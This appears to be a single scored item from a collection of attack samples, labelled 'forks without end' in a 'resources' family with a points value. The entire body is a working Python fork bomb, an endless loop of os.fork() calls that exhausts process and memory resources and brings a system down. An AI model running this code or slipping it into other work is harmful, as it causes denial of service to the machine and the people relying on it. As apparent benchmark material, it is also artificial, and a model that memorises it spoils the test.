# attack: forks without end
# family: resources
# base: solved
# points: 7
# %% last
import os
while True:
    os.fork()
